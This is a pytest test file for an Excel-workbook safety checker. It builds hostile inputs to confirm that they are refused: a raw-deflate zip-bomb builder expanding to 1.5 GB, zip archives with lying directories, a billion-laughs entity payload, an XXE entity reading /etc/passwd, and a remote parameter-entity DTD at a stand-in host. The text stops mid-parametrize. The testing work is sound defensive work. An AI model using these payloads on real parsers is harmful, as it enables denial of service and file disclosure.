"""The guards in read/safety.py: every hostile or broken file is built here, at test time."""

from __future__ import annotations

import json
import os
import random
import struct
import subprocess
import sys
import textwrap
import zipfile
import zlib
from collections.abc import Iterable
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter

from inkoopkracht_xl.errors import InputRefused
from inkoopkracht_xl.model import Finding, Level
from inkoopkracht_xl.read import safety
from inkoopkracht_xl.read.safety import WorkbookInfo, inspect_xlsx

MIB = 1024 * 1024
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
WORKSHEET_TYPE = REL_NS + "/worksheet"
# The name the coordinator knows; deliberately unlike the temporary file's name, so a test sees
# that messages name the file the user dropped, not the path.
SHOWN = "Begroting 2024 v3.xlsx"
REPO = Path(__file__).resolve().parents[1]


# --- building workbooks ------------------------------------------------------------------------


def refused(path: Path, shown: str = SHOWN) -> Finding:
    """The single finding `inspect_xlsx` refuses `path` with; it must name the shown file."""
    with pytest.raises(InputRefused) as caught:
        inspect_xlsx(path, shown)
    (finding,) = caught.value.findings
    assert finding.level is Level.ERROR
    assert finding.location.file == shown
    assert finding.fix, "every refusal says what to do"
    return finding


def sheet_xml(rows: str, ns: str = MAIN_NS) -> bytes:
    return f'<worksheet xmlns="{ns}"><sheetData>{rows}</sheetData></worksheet>'.encode()


def workbook_parts(sheets: dict[str, bytes], states: dict[str, str] | None = None) -> dict:
    """The minimal parts of an xlsx that Excel opens: one worksheet part per sheet."""
    states = states or {}
    entries = "".join(
        f'<sheet name="{name}" sheetId="{i}" r:id="rId{i}"'
        + (f' state="{states[name]}"' if name in states else "")
        + "/>"
        for i, name in enumerate(sheets, 1)
    )
    relationships = "".join(
        f'<Relationship Id="rId{i}" Type="{WORKSHEET_TYPE}" Target="worksheets/sheet{i}.xml"/>'
        for i in range(1, len(sheets) + 1)
    )
    parts = {
        "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
        "xl/workbook.xml": (
            f'<workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><sheets>{entries}</sheets></workbook>'
        ).encode(),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{PACKAGE_REL_NS}">{relationships}</Relationships>'
        ).encode(),
    }
    for i, data in enumerate(sheets.values(), 1):
        parts[f"xl/worksheets/sheet{i}.xml"] = data
    return parts


def write_zip(path: Path, parts: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def replace_member(path: Path, name: str, data: bytes) -> Path:
    """A copy of the workbook at `path` with one part's content swapped."""
    with zipfile.ZipFile(path) as source:
        parts = {info.filename: source.read(info) for info in source.infolist()}
    assert name in parts
    parts[name] = data
    return write_zip(path.with_name("swapped-" + path.name), parts)


def xlsxwriter_workbook(path: Path) -> Path:
    """A normal coordinator workbook: a visible, a hidden and a very hidden sheet."""
    workbook = xlsxwriter.Workbook(path)
    bold = workbook.add_format({"bold": True})
    calendar = workbook.add_worksheet("Kalender")
    calendar.write_row(0, 0, ["Categorie", "Onderwerp", "Deelnemende gemeenten", "Kosten"], bold)
    calendar.write_row(1, 0, [1, "Schoonmaak", "DE, PN"])
    calendar.write_formula(1, 3, "=1000*2", None, 2000)
    calendar.write_row(2, 0, [3, "Leveren Speel- en sporttoestellen", "ME"])
    calendar.write_row(4, 0, [4, "Energie"])  # row 4 left empty on purpose
    calendar.write_blank(5, 0, None, bold)  # formatting only: not a filled row
    municipalities = workbook.add_worksheet("Gemeenten")
    municipalities.write_row(0, 0, ["Code", "Gemeente"])
    municipalities.write_row(1, 0, ["DE", "Delft"])
    municipalities.hide()
    workbook.add_worksheet("Geheim").very_hidden()
    workbook.close()
    return path


# A raw zip writer: zipfile cannot write a pre-compressed stream or a directory that lies.


def deflate_repeated(prefix: bytes, chunk: bytes, count: int) -> list[bytes]:
    """Raw deflate of `prefix + chunk * count`, compressing `chunk` only once: after a full flush
    the compressor forgets its history, so every flushed block of the same chunk is identical."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH) == block
    return [head, *[block] * count, compressor.flush()]


def deflate(data: bytes) -> list[bytes]:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return [compressor.compress(data) + compressor.flush()]


def write_raw_zip(path: Path, members: Iterable[tuple[str, list[bytes], int, int]]) -> Path:
    """members: (name, raw deflate blocks, declared uncompressed size, declared CRC-32)."""
    directory = b""
    count = 0
    with open(path, "wb") as out:
        for name, blocks, size, crc in members:
            encoded = name.encode()
            compressed = sum(len(block) for block in blocks)
            fields = struct.pack(
                "<HHHHHLLLH", 20, 0, 8, 0, 0x21, crc, compressed, size, len(encoded)
            )
            offset = out.tell()
            out.write(b"PK\x03\x04" + fields + b"\x00\x00" + encoded)
            for block in blocks:
                out.write(block)
            directory += (
                b"PK\x01\x02"
                + struct.pack("<H", 20)
                + fields
                + struct.pack("<HHHHLL", 0, 0, 0, 0, 0, offset)
                + encoded
            )
            count += 1
        start = out.tell()
        out.write(directory)
        out.write(
            b"PK\x05\x06" + struct.pack("<4H2LH", 0, 0, count, count, len(directory), start, 0)
        )
    return path


def raw_member(name: str, data: bytes) -> tuple[str, list[bytes], int, int]:
    return name, deflate(data), len(data), zlib.crc32(data)


SHEET_HEAD = f'<?xml version="1.0"?><worksheet xmlns="{MAIN_NS}"><sheetData>'.encode()
BOMB_CHUNK = b" " * MIB
BOMB_CHUNKS = 1431  # 1431 MiB = 1.50 GB of whitespace inside <sheetData>


def bomb_workbook(path: Path, declared_size: int | None = None) -> Path:
    """A workbook whose only sheet expands to 1.5 GB from about 1.5 MB. With `declared_size` the
    directory lies: it claims that size, with the CRC-32 of exactly that many leading bytes, so
    zipfile finds nothing wrong with the claim."""
    blocks = deflate_repeated(SHEET_HEAD, BOMB_CHUNK, BOMB_CHUNKS)
    real_size = len(SHEET_HEAD) + len(BOMB_CHUNK) * BOMB_CHUNKS
    size = real_size if declared_size is None else declared_size
    # A real CRC-32 of 1.5 GB is never needed: every guard stops long before the end of the stream.
    crc = 0 if declared_size is None else zlib.crc32((SHEET_HEAD + BOMB_CHUNK)[:declared_size])
    parts = workbook_parts({"Kalender": b""})
    del parts["xl/worksheets/sheet1.xml"]
    members = [raw_member(name, data) for name, data in parts.items()]
    members.append(("xl/worksheets/sheet1.xml", blocks, size, crc))
    return write_raw_zip(path, members)


# --- files that pass ---------------------------------------------------------------------------


def assert_most_filled_rows(path: Path, monkeypatch, count: int, sheet: str) -> None:
    """`sheet` has the most filled rows of the workbook, `count`: the file passes with that many
    as the cap and is refused at that sheet one below it."""
    monkeypatch.setattr(safety, "MAX_FILLED_ROWS", count)
    inspect_xlsx(path, SHOWN)
    monkeypatch.setattr(safety, "MAX_FILLED_ROWS", count - 1)
    finding = refused(path)
    assert finding.message == f"heeft meer dan {count - 1} gevulde rijen."
    assert finding.location.sheet == sheet


def test_normal_workbook_passes_with_names_hidden_sheets_and_filled_rows(tmp_path, monkeypatch):
    path = xlsxwriter_workbook(tmp_path / "kalender.xlsx")
    info = inspect_xlsx(path, SHOWN)

    assert info == WorkbookInfo(
        sheet_names=("Kalender", "Gemeenten", "Geheim"),
        hidden_sheets=frozenset({"Gemeenten", "Geheim"}),
        formulas_without_value={},  # the formula at D2 carries its value 2000
        formulas={"Kalender": {(2, 3): "1000*2"}},
        # the bold header; the bold blank A6 holds nothing
        bold_cells={"Kalender": frozenset({(1, 0), (1, 1), (1, 2), (1, 3)})},
    )
    # Kalender: header + rows 2, 3, 5 (row 6 holds formatting only); Gemeenten: header + DE
    assert_most_filled_rows(path, monkeypatch, 4, "Kalender")


def test_formula_without_cached_value_is_found_at_its_cell(tmp_path, monkeypatch):
    # openpyxl never calculates: it writes <f>A1*2</f><v/>, exactly the case to catch.
    workbook = openpyxl.Workbook()
    budget = workbook.active
    budget.title = "Begroting"
    budget["A1"] = 100
    budget["C5"] = "=A1*2"
    population = workbook.create_sheet("Inwoners")
    population["B3"] = "=SUM(1,2)"
    population["B4"] = 57_000
    workbook.save(tmp_path / "begroting.xlsx")

    info = inspect_xlsx(tmp_path / "begroting.xlsx", SHOWN)

    assert info.formulas_without_value == {"Begroting": ("C5",), "Inwoners": ("B3",)}
    # Begroting: rows 1 and 5; Inwoners: rows 3 and 4 (the first sheet is refused first)
    assert_most_filled_rows(tmp_path / "begroting.xlsx", monkeypatch, 2, "Begroting")


def test_hand_written_sheet_in_strict_namespace_with_prefixes_and_implied_positions(
    tmp_path, monkeypatch
):
    strict_main = "http://purl.oclc.org/ooxml/spreadsheetml/main"
    strict_rel = "http://purl.oclc.org/ooxml/officeDocument/relationships"
    sheet = (
        f'<x:worksheet xmlns:x="{strict_main}"><x:sheetData>'
        # row 2: A2 value; B2 (no r) uncached formula; C2 a cached "" result as Excel writes it
        '<x:row r="2"><x:c><x:v>1</x:v></x:c><x:c><x:f>A2*2</x:f></x:c>'
        '<x:c t="str"><x:f>IF(A2,"","")</x:f><x:v></x:v></x:c></x:row>'
        # row 3 (implied): a shared formula; its follower E3 (implied) has an empty <v/>
        '<x:row><x:c r="D3"><x:f t="shared" ref="D3:E3" si="0">A3</x:f><x:v>5</x:v></x:c>'
        '<x:c><x:f t="shared" si="0"/><x:v/></x:c></x:row>'
        # row 7: a styled cell and an empty value: not filled
        '<x:row r="7"><x:c r="A7" s="1"/><x:c r="B7"><x:v/></x:c></x:row>'
        '<x:row r="8"><x:c r="C8" t="inlineStr"><x:is><x:t>tekst</x:t></x:is></x:c></x:row>'
        "</x:sheetData></x:worksheet>"
    ).encode()
    parts = {
        "xl/workbook.xml": (
            f'<w:workbook xmlns:w="{strict_main}" xmlns:rel="{strict_rel}"><w:sheets>'
            '<w:sheet name="Projectkosten" sheetId="1" rel:id="rIdA"/></w:sheets></w:workbook>'
        ).encode(),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{PACKAGE_REL_NS}"><Relationship Id="rIdA" '
            f'Type="{WORKSHEET_TYPE}" Target="/xl/Worksheets/Data.xml"/></Relationships>'
        ).encode(),
        "xl/worksheets/data.xml": sheet,  # part names are case-insensitive
    }

    path = write_zip(tmp_path / "strict.xlsx", parts)
    info = inspect_xlsx(path, SHOWN)

    assert info.sheet_names == ("Projectkosten",)
    assert info.hidden_sheets == frozenset()
    assert info.formulas_without_value == {"Projectkosten": ("B2", "E3")}
    assert_most_filled_rows(path, monkeypatch, 3, "Projectkosten")  # rows 2, 3 and 8


# --- files that are not workbooks --------------------------------------------------------------


def test_missing_file_is_named(tmp_path):
    finding = refused(tmp_path / "weg.xlsx")
    assert finding.message == "bestaat niet (meer)."


def test_file_locked_by_excel_cannot_be_opened(tmp_path, monkeypatch):
    path = xlsxwriter_workbook(tmp_path / "kalender.xlsx")

    def locked(*args, **kwargs):
        raise PermissionError(13, "The process cannot access the file", str(path))

    monkeypatch.setattr(safety, "open", locked, raising=False)
    finding = refused(path)
    assert "kan niet worden geopend (mogelijk nog geopend in Excel" in finding.message
    assert finding.fix == "Sluit het bestand en probeer opnieuw."


def test_folder_named_xlsx_cannot_be_opened(tmp_path):
    (tmp_path / "map.xlsx").mkdir()
    assert "kan niet worden geopend" in refused(tmp_path / "map.xlsx").message


def test_empty_file(tmp_path):
    (tmp_path / "leeg.xlsx").write_bytes(b"")
    assert refused(tmp_path / "leeg.xlsx").message == "is leeg (0 bytes)."


def test_random_bytes(tmp_path):
    (tmp_path / "ruis.xlsx").write_bytes(random.Random(7).randbytes(8192))
    finding = refused(tmp_path / "ruis.xlsx")
    assert finding.message == "is geen Excel-werkmap (.xlsx) of is beschadigd."
    assert "(.xlsx)" in finding.fix


@pytest.mark.parametrize(
    "encoding", ["cp1252", "utf-8", "utf-8-sig", "utf-16"], ids=lambda e: f"csv-{e}"
)
def test_csv_renamed_to_xlsx(tmp_path, encoding):
    text = "Onderwerp;Deelnemende gemeenten;Bedrag\r\nSchoonmaak;DE, PN;€ 120.000\r\n" * 300
    (tmp_path / "kalender.xlsx").write_bytes(text.encode(encoding))
    finding = refused(tmp_path / "kalender.xlsx")
    assert finding.message == "is geen Excel-werkmap maar tekst (CSV?)."
    assert finding.fix == "Open het bestand in Excel en sla het op als Excel-werkmap (.xlsx)."


def ole_file(path: Path, streams: list[str], size: int = 4096) -> Path:
    """An OLE2 compound file header followed by a directory holding `streams` (UTF-16LE names)."""
    directory = b"".join(name.encode("utf-16-le").ljust(128, b"\x00") for name in streams)
    body = safety.OLE_MAGIC + bytes(504) + directory
    path.write_bytes(body.ljust(size, b"\x00"))
    return path


def test_password_protected_workbook(tmp_path):
    path = ole_file(
        tmp_path / "beveiligd.xlsx", ["Root Entry", "EncryptionInfo", "EncryptedPackage"]
    )
    finding = refused(path)
    assert finding.message == "is beveiligd met een wachtwoord."
    assert finding.fix == (
        "Verwijder de beveiliging in Excel: Bestand › Info › Werkmap beveiligen, en sla opnieuw op."
    )


def test_password_protection_found_at_the_end_of_a_large_file(tmp_path, monkeypatch):
    monkeypatch.setattr(safety, "OLE_SCAN_BYTES", 1024)
    path = tmp_path / "groot.xlsx"
    path.write_bytes(safety.OLE_MAGIC + bytes(20_000) + "EncryptionInfo".encode("utf-16-le"))
    assert refused(path).message == "is beveiligd met een wachtwoord."


def test_old_xls_format(tmp_path):
    finding = refused(ole_file(tmp_path / "oud.xlsx", ["Root Entry", "Workbook", "SummaryInfo"]))
    assert finding.message == "is opgeslagen in het oude Excel-formaat (.xls)."
    assert finding.fix == "Open het bestand in Excel en sla het op als Excel-werkmap (.xlsx)."


def test_truncated_workbook_is_damaged(tmp_path):
    whole = xlsxwriter_workbook(tmp_path / "heel.xlsx").read_bytes()
    (tmp_path / "half.xlsx").write_bytes(whole[: len(whole) // 2])
    finding = refused(tmp_path / "half.xlsx")
    assert finding.message == "is beschadigd."
    assert "nieuw exemplaar" in finding.fix


def test_bad_crc_is_damaged(tmp_path):
    parts = workbook_parts({"Kalender": sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row>')})
    members = [raw_member(name, data) for name, data in parts.items()]
    name, blocks, size, crc = members[-1]
    members[-1] = (name, blocks, size, crc ^ 1)
    assert refused(write_raw_zip(tmp_path / "crc.xlsx", members)).message == "is beschadigd."


def test_zip_without_workbook_part_is_no_excel_workbook(tmp_path):
    path = write_zip(tmp_path / "brief.xlsx", {"word/document.xml": b"<document/>"})
    finding = refused(path)
    assert finding.message == "is een zip-bestand maar geen Excel-werkmap (.xlsx)."


def test_sheet_whose_part_is_missing_is_damaged(tmp_path):
    parts = workbook_parts({"Kalender": sheet_xml(""), "Gemeenten": sheet_xml("")})
    del parts["xl/worksheets/sheet2.xml"]
    finding = refused(write_zip(tmp_path / "kapot.xlsx", parts))
    assert finding.message == "is beschadigd: het werkblad 'Gemeenten' ontbreekt."
    assert finding.location.sheet == "Gemeenten"


@pytest.mark.parametrize(
    ("part", "data"),
    [
        ("xl/workbook.xml", b"<workbook><sheets>"),
        ("xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row></sheetData></worksheet>"),
        ("xl/worksheets/sheet1.xml", b"<worksheet>&nbsp;</worksheet>"),
        ("[Content_Types].xml", b"not xml at all"),
    ],
    ids=["workbook-unclosed", "sheet-mismatched-tag", "undefined-entity", "content-types"],
)
def test_malformed_xml_is_damaged(tmp_path, part, data):
    parts = workbook_parts({"Kalender": sheet_xml("")})
    parts[part] = data
    assert refused(write_zip(tmp_path / "kapot.xlsx", parts)).message == "is beschadigd."


def test_compression_excel_never_uses_is_refused(tmp_path):
    # bzip2 is decompressed by zipfile without an output limit: it must never reach a read.
    parts = workbook_parts({"Kalender": sheet_xml("")})
    path = write_zip(tmp_path / "bzip2.xlsx", parts, zipfile.ZIP_BZIP2)
    assert refused(path).message == "is beschadigd."


def test_duplicate_part_names_are_refused(tmp_path):
    parts = workbook_parts({"Kalender": sheet_xml("")})
    members = [raw_member(name, data) for name, data in parts.items()]
    members.append(raw_member("XL/Worksheets/Sheet1.xml", sheet_xml("<row><c><v>9</v></c></row>")))
    assert refused(write_raw_zip(tmp_path / "dubbel.xlsx", members)).message == "is beschadigd."


def test_sheet_names_differing_only_in_case_are_refused(tmp_path):
    parts = workbook_parts({"Kalender": sheet_xml(""), "KALENDER": sheet_xml("")})
    assert refused(write_zip(tmp_path / "dubbel.xlsx", parts)).message == "is beschadigd."


def test_two_sheets_sharing_one_part_are_refused(tmp_path):
    parts = workbook_parts({"Kalender": sheet_xml(""), "Gemeenten": sheet_xml("")})
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"sheet2.xml", b"sheet1.xml"
    )
    assert refused(write_zip(tmp_path / "gedeeld.xlsx", parts)).message == "is beschadigd."


def test_sheet_pointing_at_the_workbook_part_is_refused(tmp_path):
    parts = workbook_parts({"Kalender": sheet_xml("")})
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"worksheets/sheet1.xml", b"workbook.xml"
    )
    finding = refused(write_zip(tmp_path / "rondje.xlsx", parts))
    assert finding.message == "is beschadigd: het werkblad 'Kalender' ontbreekt."


LONG = random.Random(5).randbytes(100 * 1024).hex()  # 200 KiB that hardly compresses


@pytest.mark.parametrize(
    ("part", "data"),
    [
        ("xl/worksheets/sheet1.xml", sheet_xml(f'<row><c r="{LONG}"><v>1</v></c></row>')),
        ("xl/styles.xml", f"<styleSheet><!-- {LONG} --></styleSheet>".encode()),
    ],
    ids=["attribute", "comment"],
)
def test_one_huge_token_is_refused_before_it_fills_memory(tmp_path, monkeypatch, part, data):
    monkeypatch.setattr(safety, "MAX_TOKEN_BYTES", 64 * 1024)
    monkeypatch.setattr(safety, "CHUNK_SIZE", 16 * 1024)
    parts = workbook_parts({"Kalender": sheet_xml("")})
    parts[part] = data
    assert refused(write_zip(tmp_path / "lang.xlsx", parts)).message == "is beschadigd."


def test_long_text_is_no_token_and_passes(tmp_path, monkeypatch):
    monkeypatch.setattr(safety, "MAX_TOKEN_BYTES", 64 * 1024)
    monkeypatch.setattr(safety, "CHUNK_SIZE", 16 * 1024)
    rows = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{LONG}</t></is></c></row>'
    path = write_zip(tmp_path / "tekst.xlsx", workbook_parts({"K": sheet_xml(rows)}))
    assert_most_filled_rows(path, monkeypatch, 1, "K")


# --- zip bombs ---------------------------------------------------------------------------------


def test_limits_are_the_agreed_ones():
    assert safety.MAX_MEMBERS == 10_000
    assert safety.MAX_TOTAL_UNCOMPRESSED == 64 * MIB
    assert (safety.MAX_RATIO, safety.RATIO_MIN_SIZE) == (200, MIB)
    assert safety.MAX_FILLED_ROWS == 200_000
    assert safety.CHUNK_SIZE == MIB


def test_bomb_builder_produces_what_it_claims():
    blocks = deflate_repeated(SHEET_HEAD, b"<row/>" * 1000, 5)
    assert zlib.decompress(b"".join(blocks), -15) == SHEET_HEAD + b"<row/>" * 5000


MEASURE = textwrap.dedent(
    """
    import json, resource, sys, time
    from pathlib import Path
    from inkoopkracht_xl.errors import InputRefused
    from inkoopkracht_xl.read import safety

    def peak_kib():
        # VmHWM is this process image's own peak. ru_maxrss is not: Linux carries the parent's
        # high-water mark into a child started with vfork (as subprocess does) across exec, so
        # a large pytest process would show up as this interpreter's peak.
        try:
            with open("/proc/self/status", encoding="ascii") as status:
                for line in status:
                    if line.startswith("VmHWM:"):
                        return int(line.split()[1])
        except OSError:
            pass
        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

    if sys.argv[2] == "directory-hidden":
        # As if the directory lied in a way zipfile cannot see: only the streaming count is left.
        safety._check_directory = lambda archive, where: {
            info.filename.lower(): info for info in archive.infolist()
        }
    before = peak_kib()
    start = time.perf_counter()
    try:
        safety.inspect_xlsx(Path(sys.argv[1]), "bom.xlsx")
        finding = None
    except InputRefused as refusal:
        (finding,) = refusal.findings
    seconds = time.perf_counter() - start
    after = peak_kib()
    print(json.dumps({
        "seconds": seconds,
        "rss_increase_mib": (after - before) / 1024,
        "peak_rss_mib": after / 1024,
        "file": finding and finding.location.file,
        "message": finding and finding.message,
    }))
    """
)


def measure(path: Path, mode: str) -> dict:
    """Inspect in a fresh interpreter, so its peak memory is the inspection's alone."""
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    done = subprocess.run(
        [sys.executable, "-c", MEASURE, str(path), mode],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
        check=True,
    )
    result = json.loads(done.stdout)
    print(f"{mode}: {result}")  # shown with pytest -s: the numbers behind the limits
    return result


@pytest.mark.parametrize(
    ("mode", "message"),
    [
        ("directory", "wordt na uitpakken groter dan 64 MB (mogelijk een zip-bom)"),
        ("directory-hidden", "wordt na uitpakken groter dan 64 MB (mogelijk een zip-bom)"),
    ],
)
def test_zip_bomb_of_1_5_gb_is_refused_fast_in_little_memory(tmp_path, mode, message):
    path = bomb_workbook(tmp_path / "bom.xlsx")
    assert path.stat().st_size < 3 * MIB  # 1.5 GB inside

    result = measure(path, mode)

    assert result["file"] == "bom.xlsx"
    assert result["message"].startswith(message)
    assert result["seconds"] < 5
    assert result["rss_increase_mib"] < 100  # the requirement is < 300 MB
    assert result["peak_rss_mib"] < 300  # the whole interpreter included


def test_bomb_whose_directory_understates_its_size_is_refused(tmp_path):
    # The directory claims 1 MiB - 1 (below every cap) with a matching CRC-32: zipfile yields only
    # the claimed bytes, so the 1.5 GB never comes out; what does is a sheet cut short.
    path = bomb_workbook(tmp_path / "leugen.xlsx", declared_size=MIB - 1)
    with zipfile.ZipFile(path) as archive:
        assert archive.getinfo("xl/worksheets/sheet1.xml").file_size == MIB - 1

    result = measure(path, "directory")

    assert result["message"] == "is beschadigd."
    assert result["seconds"] < 5


def test_one_highly_compressed_member_is_refused(tmp_path):
    # 2 MiB of whitespace compresses about 1000 times: over 200 and over 1 MiB.
    parts = workbook_parts(
        {"Kalender": SHEET_HEAD + b" " * (2 * MIB) + b"</sheetData></worksheet>"}
    )
    finding = refused(write_zip(tmp_path / "bom.xlsx", parts))
    assert finding.message == (
        "bevat een onderdeel dat onwaarschijnlijk sterk is ingepakt (mogelijk een zip-bom) "
        "en is niet geopend."
    )


def test_highly_compressed_but_small_member_passes(tmp_path, monkeypatch):
    rows = '<row><c t="inlineStr"><is><t>x</t></is></c></row>' + " " * (MIB - 1000)
    path = write_zip(tmp_path / "klein.xlsx", workbook_parts({"K": sheet_xml(rows)}))
    assert_most_filled_rows(path, monkeypatch, 1, "K")


def test_streaming_counter_stops_at_the_total_cap(tmp_path, monkeypatch):
    # The directory says the truth here; hide it to show the count of real bytes stops alone.
    monkeypatch.setattr(
        safety,
        "_check_directory",
        lambda archive, where: {i.filename.lower(): i for i in archive.infolist()},
    )
    monkeypatch.setattr(safety, "MAX_TOTAL_UNCOMPRESSED", 3 * MIB)
    monkeypatch.setattr(safety, "CHUNK_SIZE", 64 * 1024)
    data = SHEET_HEAD + random.Random(3).randbytes(4 * MIB).hex().encode()[: 4 * MIB]
    path = write_zip(tmp_path / "groot.xlsx", workbook_parts({"Kalender": data}))
    finding = refused(path)
    assert finding.message.startswith("wordt na uitpakken groter dan 3 MB")


@pytest.mark.parametrize("formula_at", ["start", "end"])
def test_a_sheet_read_twice_counts_its_bytes_once(tmp_path, monkeypatch, formula_at):
    # A formula sends the sheet from the quick look to the full scan, which reads the part from
    # the start again. The total cap must see each byte once: a cap of exactly the workbook's
    # uncompressed size passes, one byte less is refused. The directory check is hidden so the
    # streaming count is the one that decides.
    monkeypatch.setattr(
        safety,
        "_check_directory",
        lambda archive, where: {i.filename.lower(): i for i in archive.infolist()},
    )
    monkeypatch.setattr(safety, "CHUNK_SIZE", 1024)
    rows = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>' for r in range(1, 2000))
    formula = '<row r="2000"><c r="A2000"><f>1+1</f><v>2</v></c></row>'
    rows = formula + rows if formula_at == "start" else rows + formula
    path = write_zip(tmp_path / "twee.xlsx", workbook_parts({"K": sheet_xml(rows)}))
    with zipfile.ZipFile(path) as archive:
        total = sum(info.file_size for info in archive.infolist())

    monkeypatch.setattr(safety, "MAX_TOTAL_UNCOMPRESSED", total)
    assert inspect_xlsx(path, SHOWN).formulas_without_value == {}
    monkeypatch.setattr(safety, "MAX_TOTAL_UNCOMPRESSED", total - 1)
    assert refused(path).message.startswith("wordt na uitpakken groter dan")


def many_members(count: int) -> list[tuple[str, list[bytes], int, int]]:
    parts = workbook_parts({"Kalender": sheet_xml("")})
    members = [raw_member(name, data) for name, data in parts.items()]
    members += [raw_member(f"xl/media/image{i}.png", b"") for i in range(count - len(members))]
    return members


def test_more_than_10000_members_are_refused(tmp_path):
    finding = refused(write_raw_zip(tmp_path / "veel.xlsx", many_members(10_001)))
    assert finding.message == (
        "bestaat uit meer dan 10.000 onderdelen (mogelijk een zip-bom) en is niet geopend."
    )


def test_member_count_is_checked_even_when_the_end_record_lies(tmp_path):
    path = write_raw_zip(tmp_path / "veel.xlsx", many_members(10_001))
    data = bytearray(path.read_bytes())
    end = data.rfind(b"PK\x05\x06")
    data[end + 8 : end + 12] = struct.pack("<HH", 1, 1)  # "one member"
    path.write_bytes(data)
    assert "meer dan 10.000 onderdelen" in refused(path).message


def test_central_directory_larger_than_its_cap_is_refused_before_zipfile_reads_it(tmp_path):
    path = write_raw_zip(tmp_path / "groot.xlsx", many_members(5))
    data = bytearray(path.read_bytes())
    end = data.rfind(b"PK\x05\x06")
    data[end + 12 : end + 16] = struct.pack("<L", 5 * MIB)
    path.write_bytes(data)
    assert "meer dan 10.000 onderdelen" in refused(path).message


def with_zip64_end(path: Path, claimed_entries: int | None = None) -> Path:
    """Rewrite the end of a zip as zip64 does: the counts move to a zip64 record before a locator."""
    data = path.read_bytes()
    end = data.rfind(b"PK\x05\x06")
    _, _, entries, _, directory_size, directory_at, _ = struct.unpack(
        "<4H2LH", data[end + 4 : end + 22]
    )
    entries = entries if claimed_entries is None else claimed_entries
    record = b"PK\x06\x06" + struct.pack(
        "<Q2H2L4Q", 44, 45, 45, 0, 0, entries, entries, directory_size, directory_at
    )
    locator = b"PK\x06\x07" + struct.pack("<LQL", 0, end, 1)
    last = b"PK\x05\x06" + struct.pack("<4H2LH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    path.write_bytes(data[:end] + record + locator + last)
    return path


def test_zip64_end_record_is_honoured(tmp_path):
    fine = with_zip64_end(write_raw_zip(tmp_path / "zip64.xlsx", many_members(5)))
    assert inspect_xlsx(fine, SHOWN).sheet_names == ("Kalender",)

    claims_more = with_zip64_end(write_raw_zip(tmp_path / "veel.xlsx", many_members(5)), 20_000)
    assert "meer dan 10.000 onderdelen" in refused(claims_more).message


def test_exactly_10000_members_pass(tmp_path):
    info = inspect_xlsx(write_raw_zip(tmp_path / "veel.xlsx", many_members(10_000)), SHOWN)
    assert info.sheet_names == ("Kalender",)


# --- XML attacks -------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">
<si><t>&lol9;</t></si></sst>"""

EXTERNAL_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<worksheet xmlns="{MAIN_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is>
</c></row></sheetData></worksheet>""".encode()

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE styleSheet [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<styleSheet/>"""

DTD_MESSAGE = "bevat een DTD/entiteiten (mogelijk kwaadaardig) en is niet geopend."


@pytest.mark.parametrize(
    ("part", "data"),
    [
        ("xl/sharedStrings.xml", BILLION_LAUGHS),
        ("xl/worksheets/sheet1.xml", EXTERNAL_ENTITY),
        ("xl/styles.xml", PARAMETER_ENTITY),
        (
            "xl/workbook.xml",
            BILLION_LAUGHS.replace(b"<sst", b"<workbook").replace(b"sst>", b"workbook>"),
        ),
    ],
    ids=[
        "billion-laughs-shared-strings",
        "external-entity-sheet",
